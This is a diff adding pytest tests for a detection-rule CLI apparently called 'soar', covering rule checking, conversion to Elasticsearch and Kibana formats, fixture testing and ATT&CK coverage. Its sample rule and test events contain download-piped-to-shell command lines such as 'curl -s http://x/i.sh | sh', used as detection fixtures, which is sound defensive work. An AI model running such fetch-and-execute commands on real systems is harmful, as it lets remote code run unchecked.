@@ -1,0 +1,186 @@
+"""``soar rules check|convert|test|coverage`` on small rules of our own, and every bad input as one line."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from tests.unit.detection.helpers import CliResult, process_event, rule_yaml, run_cli, write
+from tests.unit.test_cli import run_soar
+
+RULE_ID = "6e0c6a2e-9f1b-4c3e-a8a8-2b0e3f0e0001"
+
+
+@pytest.fixture
+def pack(tmp_path: Path) -> Path:
+    """One rule with fixtures, in a folder."""
+    rules = tmp_path / "rules"
+    write(
+        rules / "curl_sh.yml",
+        rule_yaml(
+            {"sel": {"CommandLine|contains|all": ["curl ", "| sh"]}, "condition": "sel"},
+            title="Download piped to a shell",
+            rule_id=RULE_ID,
+        ),
+    )
+    fixtures = {
+        "should_match": [process_event("curl -s http://x/i.sh | sh")],
+        "should_not_match": [process_event("curl -s -o i.sh http://x/i.sh")],
+    }
+    write(rules / "curl_sh.tests.yml", yaml.safe_dump(fixtures))
+    return rules
+
+
+@pytest.fixture
+def soar(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path):  # type: ignore[no-untyped-def]
+    """Run soar in-process with the state folder in tmp_path."""
+
+    def run(*args: str) -> CliResult:
+        return run_cli(capsys, monkeypatch, *args, env={"SOAR_STATE_DIR": str(tmp_path / "state")})
+
+    return run
+
+
+def test_check_clean_pack(soar: Any, pack: Path, tmp_path: Path) -> None:
+    out = soar("rules", "check", str(pack))
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert out.stdout == ""
+    assert "1 rules checked, 0 problems" in out.stderr
+
+
+def test_check_reports_every_problem_as_file_line_col(soar: Any, pack: Path, tmp_path: Path) -> None:
+    text = rule_yaml({"sel": {"Image": "x"}, "condition": "sel"}, extra={"tags": ["attack.t9999", "attack.execution"]})
+    text = text.replace("falsepositives:\n- None known\n", "")
+    bad = write(pack / "bad.yml", text)
+    write(pack / "broken.yml", "title: [unclosed\n")
+    out = soar("rules", "check", str(pack))
+    assert out.returncode == 1
+    lines = out.stdout.splitlines()
+    tag_line = text.splitlines().index("- attack.t9999") + 1
+    assert f"{pack / 'broken.yml'}:2:1: invalid YAML: expected ',' or ']', but got '<stream end>'" in lines
+    assert f"{bad}:1:1: missing required field 'falsepositives'" in lines
+    assert f"{bad}:{tag_line}:3: Invalid MITRE ATT&CK tagging (attack.t9999)" in lines
+    assert f"{bad}:{tag_line}:3: no ATT&CK technique tag (attack.tNNNN or attack.tNNNN.NNN)" not in lines
+    assert "Traceback" not in out.stderr
+
+
+def test_convert_elasticsearch_json_and_embedded(soar: Any, pack: Path, tmp_path: Path) -> None:
+    out = soar("rules", "convert", str(pack), "--json")
+    assert out.returncode == 0, out.stderr
+    (compiled,) = json.loads(out.stdout)
+    assert compiled["rule_id"] == RULE_ID
+    query = compiled["dsl"]["query"]["bool"]["must"][0]["query_string"]["query"]
+    assert query == (
+        "(event.category:process AND event.type:start) AND "
+        "(process.command_line:*curl\\ * AND process.command_line:*\\|\\ sh*)"
+    )
+    out = soar("rules", "convert", str(pack), "--target", "embedded")
+    assert out.returncode == 0, out.stderr
+    assert "SELECT id FROM events WHERE" in out.stdout
+    assert "json_each(flat, '$.\"process.command_line\"')" in out.stdout
+
+
+def test_convert_exports(soar: Any, pack: Path, tmp_path: Path) -> None:
+    out = soar("rules", "convert", str(pack), "--format", "kibana-ndjson")
+    assert out.returncode == 0, out.stderr
+    rule = json.loads(out.stdout.splitlines()[0])
+    assert rule["rule_id"] == RULE_ID
+    assert rule["threat"][0]["technique"][0]["id"] == "T1059"  # ATT&CK names from the shipped data
+    assert rule["threat"][0]["technique"][0]["name"] == "Command and Scripting Interpreter"
+    out = soar("rules", "convert", str(pack), "--format", "elastalert")
+    assert out.returncode == 0, out.stderr
+    elastalert = yaml.safe_load(out.stdout)
+    assert elastalert["name"].startswith("Download piped to a shell")
+    assert "process.command_line" in json.dumps(elastalert["filter"])
+
+
+def test_test_fixtures_embedded(soar: Any, pack: Path, tmp_path: Path) -> None:
+    out = soar("rules", "test", str(pack))
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert f"PASS  {RULE_ID}  Download piped to a shell" in out.stdout
+    assert "1 passed, 0 failed (embedded)" in out.stderr
+
+
+def test_test_fails_with_the_offending_event(soar: Any, pack: Path, tmp_path: Path) -> None:
+    fixtures = yaml.safe_load((pack / "curl_sh.tests.yml").read_text())
+    fixtures["should_not_match"].append(process_event("curl http://x | sh -s"))
+    (pack / "curl_sh.tests.yml").write_text(yaml.safe_dump(fixtures))
+    out = soar("rules", "test", str(pack), "--json")
+    assert out.returncode == 1
+    (result,) = json.loads(out.stdout)["results"]
+    assert result["passed"] is False
+    (failure,) = result["failures"]
+    assert "curl_sh.tests.yml:" in failure
+    assert "should_not_match[1] matched" in failure
+    assert "curl http://x | sh -s" in failure
+
+
+def test_test_with_events_file_json_and_jsonl(soar: Any, pack: Path, tmp_path: Path) -> None:
+    events = [process_event("ls"), process_event("curl a | sh"), process_event("CURL b | SH")]
+    array = write(tmp_path / "events.json", json.dumps(events))
+    lines = write(tmp_path / "events.jsonl", "\n".join(json.dumps(e) for e in events) + "\n")
+    for path in (array, lines):
+        out = soar("rules", "test", str(pack), "--events", str(path), "--json")
+        assert out.returncode == 0, out.stderr
+        assert json.loads(out.stdout)["rules"] == [
+            {"id": RULE_ID, "title": "Download piped to a shell", "matched_events": [1, 2]}
+        ]
+
+
+def test_coverage(soar: Any, pack: Path, tmp_path: Path) -> None:
+    write(pack / "unmapped.yml", rule_yaml({"sel": {"TargetImage": "x"}, "condition": "sel"}, title="Unmapped"))
+    out = soar("rules", "coverage", str(pack), "--json")
+    assert out.returncode == 0, out.stderr
+    data = json.loads(out.stdout)
+    assert data["logsources"] == {"product:linux/category:process_creation": 2}
+    assert data["techniques"]["T1059.004"] == {"name": "Unix Shell", "rules": 2}
+    ok = next(r for r in data["rules"] if r["id"] == RULE_ID)
+    assert ok["fields"] == ["event.category", "event.type", "process.command_line"]
+    (failed,) = data["failed"]
+    assert "field 'TargetImage' is not mapped by ecs_linux" in failed["error"]
+    out = soar("rules", "coverage", str(pack))
+    assert "cannot compile:" in out.stdout and "Unix Shell" in out.stdout
+
+
+@pytest.mark.parametrize(
+    ("args", "expected"),
+    [
+        (("convert", "--pipeline", "nope"), "error: --pipeline nope: unknown pipeline (known: "),
+        (("convert", "--target", "splunk"), "error: --target splunk: unknown target"),
+        (("test", "--engine", "splunk"), "error: --engine splunk: unknown engine"),
+        (("check", "/does/not/exist"), "error: /does/not/exist: no such file or folder"),
+    ],
+)
+def test_bad_options_are_one_line(soar: Any, pack: Path, tmp_path: Path, args: tuple[str, ...], expected: str) -> None:
+    out = soar("rules", *args[:1], *([str(pack)] if args[0] != "check" else []), *args[1:])
+    assert out.returncode in (1, 2)
+    assert out.stderr.startswith(expected), out.stderr
+    assert len(out.stderr.strip().splitlines()) == 1
+    assert "Traceback" not in out.stderr
+
+
+def test_events_file_that_is_not_json(soar: Any, pack: Path, tmp_path: Path) -> None:
+    bad = write(tmp_path / "events.jsonl", '{"a": 1}\n{"b": \n')
+    # a real process: the one line and the exit code are what a user sees
+    out = run_soar("rules", "test", str(pack), "--events", str(bad), env={"SOAR_STATE_DIR": str(tmp_path / "s")})
+    assert out.returncode == 1
+    assert out.stderr.startswith(
+        f"error: {bad}:2:7: not valid JSON (expected a JSON array or one JSON object per line)"
+    )
+    assert len(out.stderr.strip().splitlines()) == 1
+
+
+def test_unmapped_field_and_unknown_modifier_fail_convert_with_file_line(soar: Any, pack: Path, tmp_path: Path) -> None:
+    text = rule_yaml({"sel": {"Imagee": "x"}, "condition": "sel"})
+    bad = write(pack / "bad.yml", text)
+    line = next(i for i, s in enumerate(text.splitlines(), 1) if "Imagee" in s)
+    mod = write(pack / "mod.yml", rule_yaml({"sel": {"Image|endswit": "x"}, "condition": "sel"}))
+    out = soar("rules", "convert", str(pack))
+    assert out.returncode == 1
+    assert f"{bad}:{line}:5: field 'Imagee' is not mapped by ecs_linux" in out.stderr
+    assert f"{mod}:" in out.stderr and "Unknown modifier 'endswit'" in out.stderr
+    assert f"# {RULE_ID}" in out.stdout  # the good rule is still converted
